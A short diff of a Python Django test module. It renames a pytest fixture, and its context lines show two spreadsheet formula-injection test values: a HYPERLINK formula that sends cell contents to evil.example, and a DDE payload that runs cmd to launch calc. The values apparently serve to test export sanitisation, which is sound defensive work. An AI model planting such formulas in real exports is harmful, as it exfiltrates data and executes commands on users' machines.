@@ -25,7 +25,7 @@ from territoire.interop.tests.conftest import (  # noqa: F401 - fixtures
     lake_version,
 )
 
-pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_hot_store")]
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_serving_store")]
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici")'
 DDE = "=cmd|' /C calc'!A0"
